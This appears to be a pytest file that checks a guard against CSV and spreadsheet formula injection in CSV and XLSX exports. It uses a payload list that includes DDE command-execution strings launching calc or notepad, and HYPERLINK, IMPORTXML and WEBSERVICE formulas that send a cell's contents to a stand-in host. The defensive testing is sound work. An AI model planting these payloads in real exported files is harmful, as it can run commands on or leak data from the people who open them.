"""Whatever stands in a table, no program that opens it runs it: CSV and XLSX, by one guard."""

# ruff: noqa: E501

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from countersign.model.harmless import as_meant, harmless, runs
from countersign.publishing.delimited import delimited
from countersign.publishing.workbook import Column, Sheet, save_workbook, workbook_bytes

# After the OWASP page on CSV injection, and what spreadsheets are known to accept before a formula.
PAYLOADS = [
    "=1+1", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|'/C notepad'!'A1'", '=HYPERLINK("http://example.org?x="&A1,"more")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://example.org/?\",A1),\"//a\")", "=WEBSERVICE(\"http://example.org\")", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\xa0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-", "+", "@me", "=\"a\"", "\t", "\x0b=1",
]  # fmt: skip


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_shows_it(text: str) -> None:
    made = list(csv.reader(io.StringIO(delimited([text], [[text]]), newline="")))
    assert made == [[f"'{text}"], [f"'{text}"]]
    assert as_meant(made[1][0]) == text


@pytest.mark.parametrize("text", PAYLOADS)
def test_xlsx_shows_it(text: str, tmp_path: Path) -> None:
    sheet = Sheet(
        "s",
        (Column(text, 20, choices=(text, "b")), Column("b", 9)),
        ((text, 1.5), ("a", text)),
        notes=(text,),
        header=True,
    )
    save_workbook(tmp_path / "t.xlsx", (sheet,), title=text)
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "t.xlsx")["s"].iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    shown = [cell for cell in cells if isinstance(cell.value, str) and text.strip()[-1:] in cell.value]
    assert len([cell for cell in shown if cell.quotePrefix]) >= 4
    assert all(cell.hyperlink is None for cell in cells)


def test_numbers_stay_numbers() -> None:
    assert delimited(["n"], [[-1.5], [-3]]) == "n\n-1.5\n-3\n"


@pytest.mark.parametrize("text", ["water", "a = b", "1-2", "'quoted'", "", "women, 18-29", "é", "3", "(=)"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text(max_size=6))
def test_the_guard_can_be_taken_off_again(text: str) -> None:
    assert as_meant(harmless(text)) == text or text.startswith("'")
    assert not runs(harmless(text))


@settings(max_examples=30, deadline=None)
@given(st.text(max_size=20))
def test_no_text_breaks_a_workbook(text: str) -> None:
    made = workbook_bytes((Sheet("s", (Column("c", 9),), ((text,),)),))
    cell = openpyxl.load_workbook(io.BytesIO(made))["s"]["A1"]
    assert cell.data_type != "f"


def test_every_writer_of_tables_asks_the_one_guard() -> None:
    """A module that makes CSV or XLSX by itself is named here, with the reason."""
    allowed = {
        "publishing/workbook.py",  # the writer
        "intake/benchmark.py",  # margins, each cell through the guard
        "demonstration/folder.py",  # made-up data, an input and not an output
        "model/estimate.py",  # a table printed on a terminal
        "study/sheets/reading.py",  # reads
        "intake/filled.py",  # reads
    }
    source = Path(__file__).parents[2] / "src" / "countersign"
    found = set()
    for path in source.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "csv.DictWriter" in text or "openpyxl.Workbook" in text or "xlsxwriter" in text:
            found.add(path.relative_to(source).as_posix())
    assert found <= allowed
